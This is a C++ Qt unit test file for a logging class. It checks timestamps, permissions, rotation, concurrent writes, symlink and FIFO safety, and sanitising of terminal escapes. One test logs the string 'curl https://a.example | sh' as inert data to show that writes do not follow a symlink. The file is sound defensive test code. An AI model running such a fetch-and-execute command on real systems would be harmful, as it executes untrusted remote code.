#include "core/Log.h"

#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <thread>

#include <sys/stat.h>

namespace ksp {

class LogTest : public QObject
{
    Q_OBJECT

    static QString contents(const QString &file)
    {
        QFile f(file);
        return f.open(QIODevice::ReadOnly) ? QString::fromUtf8(f.readAll()) : QString();
    }

private slots:
    void writesTimeAndText()
    {
        QTemporaryDir dir;
        Log log(dir.path());
        QVERIFY(!QFile::exists(log.fileName()));
        log.write(QStringLiteral("GET /a: 200\nsecond"));
        static const QRegularExpression expected(
            QStringLiteral("\\A\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}(Z|[+-]"
                           "\\d\\d:\\d\\d) GET /a: 200\\n    second\\n\\z"));
        QVERIFY2(expected.match(contents(log.fileName())).hasMatch(), qPrintable(contents(log.fileName())));
        QCOMPARE(QFile::permissions(log.fileName()) & (QFile::ReadGroup | QFile::ReadOther), QFile::Permissions());
    }

    void keepsOneOldFile()
    {
        QTemporaryDir dir;
        Log log(dir.path());
        const QString line(1000, QLatin1Char('x'));
        for (int i = 0; i < 2500; ++i)
            log.write(line);
        log.write(QStringLiteral("last"));
        QVERIFY(QFileInfo(log.fileName()).size() <= Log::maxBytes);
        const QFileInfo old(log.fileName() + QStringLiteral(".1"));
        QVERIFY(old.size() > Log::maxBytes / 2 && old.size() <= Log::maxBytes);
        QVERIFY(contents(log.fileName()).endsWith(QStringLiteral(" last\n")));
        QCOMPARE(QDir(old.path()).entryList(QDir::Files).size(), 2);
    }

    void linesOfTwoWritersDoNotMix()
    {
        QTemporaryDir dir;
        Log shared(dir.path());
        Log other(dir.path());
        const auto write = [](Log *log, QChar letter) {
            for (int i = 0; i < 1000; ++i)
                log->write(QString(50, letter));
        };
        std::thread a(write, &shared, QLatin1Char('a'));
        std::thread b(write, &shared, QLatin1Char('b'));
        std::thread c(write, &other, QLatin1Char('c'));
        a.join();
        b.join();
        c.join();
        const auto lines = contents(shared.fileName()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 3000);
        static const QRegularExpression whole(QStringLiteral(" (a{50}|b{50}|c{50})\\z"));
        for (const QString &line : lines)
            QVERIFY2(whole.match(line).hasMatch(), qPrintable(line));
    }

    void followsNoLinkAndWaitsForNoPipe()
    {
        const QTemporaryDir dir;
        const QString victim = dir.filePath(QStringLiteral("victim"));
        QVERIFY(QFile(victim).open(QIODevice::WriteOnly));
        Log log(dir.path());
        QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral("log"))));
        QVERIFY(QFile::link(victim, log.fileName()));
        log.write(QStringLiteral("curl https://a.example | sh"));
        QCOMPARE(QFileInfo(victim).size(), 0);
        QVERIFY(QFile::remove(log.fileName()));
        QCOMPARE(::mkfifo(QFile::encodeName(log.fileName()).constData(), 0600), 0);
        log.write(QStringLiteral("dropped"));
        QVERIFY(QFile::remove(log.fileName()));
        log.write(QStringLiteral("a\x1b[2J\u202eb"));
        QVERIFY(contents(log.fileName()).endsWith(QStringLiteral(" a\uFFFD[2J\uFFFDb\n")));
    }

    void aFolderThatCannotBeMadeIsNoError()
    {
        QTemporaryDir dir;
        QFile inTheWay(dir.filePath(QStringLiteral("file")));
        QVERIFY(inTheWay.open(QIODevice::WriteOnly));
        Log log(inTheWay.fileName());
        log.write(QStringLiteral("dropped"));
        QCOMPARE(inTheWay.size(), 0);
    }
};

} // namespace ksp

QTEST_GUILESS_MAIN(ksp::LogTest)
#include "LogTest.moc"
